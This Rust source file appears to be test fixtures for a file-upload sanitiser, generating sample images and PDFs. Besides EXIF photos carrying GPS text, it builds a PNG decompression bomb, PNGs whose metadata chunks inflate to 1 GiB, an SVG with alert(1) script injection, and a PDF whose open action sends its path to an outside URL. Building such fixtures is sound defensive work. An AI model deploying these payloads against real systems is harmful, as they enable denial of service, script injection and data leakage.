//! Files as phones send them: photographs that say where they were taken, and worse.

use flate2::{Compression, write::ZlibEncoder};
use image::{DynamicImage, ImageFormat, Rgb, RgbImage, codecs::jpeg::JpegEncoder};
use lopdf::{Dictionary, Document, Object, Stream, dictionary};
use std::io::{Cursor, Write};

/// Bytes that a photograph's EXIF holds and nothing else does: where it was taken.
pub const WHERE: &[u8] = b"GPS 36.2308N 137.9644E";

/// A photograph with much in it, so that it does not become small, taken somewhere (EXIF with GPS) and
/// lying on its side (orientation 6).
pub fn photo(width: u32, height: u32) -> Vec<u8> {
    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
    let picture = RgbImage::from_fn(width, height, |x, y| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        let [noise, ..] = seed.to_le_bytes();
        Rgb([u8::try_from(x * 255 / width).unwrap(), u8::try_from(y * 255 / height).unwrap(), noise])
    });
    let mut jpeg = Vec::new();
    let encoder = JpegEncoder::new_with_quality(&mut jpeg, 92);
    DynamicImage::ImageRgb8(picture).write_with_encoder(encoder).unwrap();
    with_exif(&jpeg)
}

/// A JPEG whose pixels are all alike: many of them in few bytes.
pub fn plain(width: u32, height: u32) -> Vec<u8> {
    let mut jpeg = Vec::new();
    let picture = DynamicImage::ImageRgb8(RgbImage::from_pixel(width, height, Rgb([60, 90, 140])));
    picture.write_with_encoder(JpegEncoder::new_with_quality(&mut jpeg, 80)).unwrap();
    jpeg
}

/// Puts an EXIF segment behind the start of a JPEG (JEITA CP-3451, 4.5): orientation 6 and words that
/// tell where it was taken.
fn with_exif(jpeg: &[u8]) -> Vec<u8> {
    let mut tiff = b"II*\0\x08\0\0\0".to_vec();
    tiff.extend(2_u16.to_le_bytes());
    // ImageDescription (0x010e), ASCII, at the end of the two entries.
    tiff.extend([0x0e, 0x01, 2, 0]);
    tiff.extend(u32::try_from(WHERE.len()).unwrap().to_le_bytes());
    tiff.extend((8_u32 + 2 + 24 + 4).to_le_bytes());
    // Orientation (0x0112), SHORT, 1 value: 6.
    tiff.extend([0x12, 0x01, 3, 0, 1, 0, 0, 0, 6, 0, 0, 0]);
    tiff.extend(0_u32.to_le_bytes());
    tiff.extend(WHERE);
    let mut file = jpeg[..2].to_vec();
    file.extend([0xff, 0xe1]);
    file.extend(u16::try_from(2 + 6 + tiff.len()).unwrap().to_be_bytes());
    file.extend(b"Exif\0\0");
    file.extend(tiff);
    file.extend(&jpeg[2..]);
    file
}

/// A PNG of 60,000 by 60,000 pixels that says so in its header and is a few hundred bytes long.
pub fn bomb() -> Vec<u8> {
    let mut png = Vec::new();
    let one = DynamicImage::ImageRgb8(RgbImage::new(8, 8));
    one.write_to(&mut Cursor::new(&mut png), ImageFormat::Png).unwrap();
    png[16..20].copy_from_slice(&60_000_u32.to_be_bytes());
    png[20..24].copy_from_slice(&60_000_u32.to_be_bytes());
    let checksum = crc(&png[12..29]);
    png[29..33].copy_from_slice(&checksum.to_be_bytes());
    png
}

/// Bytes that the words in [`wordy`] pictures unpack to: as many as the process that looks at them may have.
pub const WORDS: usize = 1 << 30;

/// Small PNGs in whose metadata a few hundred kilobytes unpack to [`WORDS`]: a comment, an international
/// comment, and a colour profile (PNG, 11.3.3 and 11.3.2.3).
pub fn wordy() -> Vec<(&'static str, Vec<u8>)> {
    let mut packed = ZlibEncoder::new(Vec::new(), Compression::best());
    let part = vec![0; 1 << 20];
    (0..WORDS / part.len()).for_each(|_| packed.write_all(&part).unwrap());
    let packed = packed.finish().unwrap();
    let mut png = Vec::new();
    DynamicImage::ImageRgb8(RgbImage::new(8, 8)).write_to(&mut Cursor::new(&mut png), ImageFormat::Png).unwrap();
    let kinds = [("zTXt", &b"Comment\0\0"[..]), ("iTXt", b"Comment\0\x01\0\0\0"), ("iCCP", b"profile\0\0")];
    let with = kinds.map(|(kind, before)| {
        let mut chunk = kind.as_bytes().to_vec();
        chunk.extend(before);
        chunk.extend(&packed);
        let mut file = png[..33].to_vec();
        file.extend(u32::try_from(chunk.len() - 4).unwrap().to_be_bytes());
        file.extend(&chunk);
        file.extend(crc(&chunk).to_be_bytes());
        file.extend(&png[33..]);
        (kind, file)
    });
    with.to_vec()
}

/// CRC-32 (ISO 3309), as PNG has it at the end of each chunk.
fn crc(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| if crc & 1 == 1 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 })
    })
}

/// A picture for the eye that is a program for a browser.
pub fn svg() -> Vec<u8> {
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>".to_vec()
}

/// A PDF of so many pages, written by somebody with a name.
pub fn pdf(pages: u32) -> Vec<u8> {
    written(pages, |_| {})
}

/// A PDF that runs a script when it is opened.
pub fn pdf_with_script() -> Vec<u8> {
    written(1, |document| {
        let script = document.add_object(dictionary! {
            "S" => "JavaScript",
            "JS" => Object::string_literal("app.launchURL('http://example.jp/?' + this.path)"),
        });
        document.catalog_mut().unwrap().set("OpenAction", script);
    })
}

/// The name in the PDF's properties.
pub const AUTHOR: &str = "Sato Hanako at Aomine";

fn written(pages: u32, change: impl FnOnce(&mut Document)) -> Vec<u8> {
    let mut document = Document::with_version("1.7");
    let all = document.new_object_id();
    let kids: Vec<Object> = (0..pages)
        .map(|_| {
            let content = document.add_object(Stream::new(Dictionary::new(), b"0 0 100 100 re f".to_vec()));
            let page = dictionary! { "Type" => "Page", "Parent" => all, "Contents" => content };
            document.add_object(page).into()
        })
        .collect();
    let (area, count) = (vec![0.into(), 0.into(), 595.into(), 842.into()], i64::from(pages));
    let tree = dictionary! { "Type" => "Pages", "Kids" => kids, "Count" => count, "MediaBox" => area };
    document.objects.insert(all, tree.into());
    let catalogue = document.add_object(dictionary! { "Type" => "Catalog", "Pages" => all });
    let properties = document.add_object(dictionary! { "Author" => Object::string_literal(AUTHOR) });
    document.trailer.set("Root", catalogue);
    document.trailer.set("Info", properties);
    change(&mut document);
    let mut bytes = Vec::new();
    document.save_to(&mut bytes).unwrap();
    bytes
}
